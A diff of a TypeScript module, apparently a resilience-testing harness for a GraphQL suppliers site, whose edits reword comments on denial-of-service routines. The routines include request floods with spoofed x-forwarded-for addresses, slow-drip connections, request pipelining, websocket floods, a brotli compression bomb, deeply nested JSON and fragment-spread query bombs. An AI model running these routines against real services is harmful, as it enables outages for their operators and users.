@@ -6,16 +6,16 @@ import { setTimeout as wait } from 'node:timers/promises'
 import { getIntrospectionQuery } from 'graphql'
 import { WebSocket } from 'ws'
 
-/** One connection of an attack: asks again and again until the signal. `from` is the address that a proxy tells. */
+/** One connection of an attack, which sends requests until the signal. `from` is the address reported by a proxy. */
 export type Attack = (site: { url: URL; from: string }, signal: AbortSignal) => Promise<void>
 
-/** Makes each text another one, so that no cache has it. */
+/** Makes each text unique, so that no cache has it. */
 let number = 0
 const words = ['blinds', 'curtains leeds', 'roman blinds london', 'shutters kent', 'blnds', 'best repairs near bath']
 
 const headersFor = (from: string) => ({ 'content-type': 'application/json', 'x-forwarded-for': from })
 
-/** Asks as quickly as it is answered, as most attackers do; nothing that is answered ends it. */
+/** Sends requests as fast as responses arrive, like most attackers; no response ends it. */
 const again =
   (send: (site: { url: URL; from: string }, signal: AbortSignal) => Promise<unknown>): Attack =>
   async (site, signal) => {
@@ -25,11 +25,10 @@ const again =
 interface Posted {
   path?: string
   headers?: Record<string, string> | (() => Record<string, string>)
-  /** Whether each request comes from another network, as from a botnet. */
+  /** Each request comes from another network, as from a botnet. */
   isFromEverywhere?: boolean
 }
 
-/** A network that nobody has come from before. */
 const newNetwork = () => `10.${(number >> 16) & 255}.${(number >> 8) & 255}.${number++ & 255}`
 
 const sending = (
@@ -53,7 +52,7 @@ const getting = (path: () => string, headers: Record<string, string> = {}) =>
     await (await fetch(new URL(path(), url), init)).arrayBuffer()
   })
 
-/** Asks for something long by a connection of its own, and reads nothing of it. */
+/** Requests something long on a new connection and reads nothing. */
 const notReading = (path: () => string, body?: () => object): Attack =>
   again(
     ({ url, from }, signal) =>
@@ -68,7 +67,7 @@ const notReading = (path: () => string, body?: () => object): Attack =>
       }),
   )
 
-/** A socket that sends as much as it is let, until it is closed; then the next. */
+/** A socket that sends as much as it can until it is closed; then the next. */
 const overSocket = (isReading: boolean, message: () => object): Attack =>
   again(async ({ url, from }, signal) => {
     const target = new URL('/graphql', url)
@@ -91,7 +90,7 @@ const overSocket = (isReading: boolean, message: () => object): Attack =>
     await wait(20)
   })
 
-/** A connection on which `first` is sent, and then `next` every second: for as long as the site lets it. */
+/** A connection that sends `first`, then `next` every second, as long as the site allows. */
 const dribbling = (first: string, next: () => string): Attack =>
   again(
     ({ url, from }, signal) =>
@@ -112,7 +111,7 @@ const dribbling = (first: string, next: () => string): Attack =>
       }),
   )
 
-/** Asks by any method, with headers that fetch would not send, and reads the whole answer. */
+/** Uses any method, with headers that fetch would not send, and reads the whole response. */
 const asking = (method: () => string, path: () => string, headers: () => Record<string, string> = () => ({})): Attack =>
   again(
     ({ url, from }, signal) =>
@@ -128,7 +127,7 @@ const asking = (method: () => string, path: () => string, headers: () => Record<
       }),
   )
 
-/** Sends requests on one connection without waiting for what comes back, a thousand at a time, and reads it all. */
+/** Pipelines a thousand requests at a time on one connection, and reads all responses. */
 const pipelining = (first: () => string): Attack =>
   again(
     ({ url, from }, signal) =>
@@ -151,7 +150,7 @@ const pipelining = (first: () => string): Attack =>
       }),
   )
 
-/** Asks, and leaves before it is answered. */
+/** Disconnects before the response. */
 const leaving = (body: () => object): Attack =>
   again(async ({ url, from }, signal) => {
     const left = AbortSignal.any([signal, AbortSignal.timeout(2)])
@@ -159,7 +158,7 @@ const leaving = (body: () => object): Attack =>
     await fetch(url, init).catch(() => {})
   })
 
-/** A socket on which `act` is done again and again, without a word of the protocol. */
+/** A socket that repeats `act`, without speaking the protocol. */
 const withSocket = (act: (socket: WebSocket) => void): Attack =>
   again(async ({ url, from }, signal) => {
     const target = new URL('/graphql', url)
@@ -179,7 +178,7 @@ const withSocket = (act: (socket: WebSocket) => void): Attack =>
 const search = () => `${words[number % words.length]} ${number++}`
 const subscribing = (query: string) => ({ id: String(number++), type: 'subscribe', payload: { query } })
 
-/** 19 bytes or so, which inflate to a megabyte. */
+/** About 19 bytes, which inflate to a megabyte. */
 const packed = brotliCompressSync('['.repeat(1_000_000))
 const unknownFields = Object.fromEntries(Array.from({ length: 60 }, (_, index) => [`field${index}`, index]))
 const longAnswer = () =>
@@ -194,18 +193,16 @@ const mcp = { path: '/mcp', headers: { accept: 'application/json, text/event-str
 const person = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'
 const nestedMessage = `{"type":"ping","payload":{"a":[${'[],'.repeat(15_000)}0]}}`
 
-/** As many names as a document may hold, in fragments that spread each other. */
+/** The maximum number of names, in fragments that spread each other. */
 const manyFragments = () =>
   `{ ...f0 a${number++}: __typename } ${Array.from({ length: 70 }, (_, at) => `fragment f${at} on Query { ${at < 69 ? `...f${at + 1}` : '__typename'} __typename }`).join(' ')}`
-/** The same fields in the same place again and again, which validation compares with each other. */
+/** The same fields repeated in one place, which validation compares with each other. */
 const manyOverlaps = () => `{ ${'suppliers(first: 1) { nodes { name } } '.repeat(70)} a${number++}: __typename }`
-/** So many of something. */
 const many = <Entry>(length: number, entry: (at: number) => Entry): Entry[] =>
   Array.from({ length }, (_, at) => entry(at))
 const signs = ['%_', '(', 'a', '\u0301', 'ﬃ', '9', 'b l i n d s ', 'GL50 ']
 const gibberish = () => many(12, () => Math.random().toString(36).replace(/\d/g, 'e').slice(2, 12)).join(' ')
 
-/** Attacks by name. */
 export const attacks: Record<string, Attack> = {
   'similar suppliers': posting(() => ({
     query: `{ suppliers(first: 90, filter: { query: "${search()}" }) { nodes { similar(first: 1) { id } } } }`,
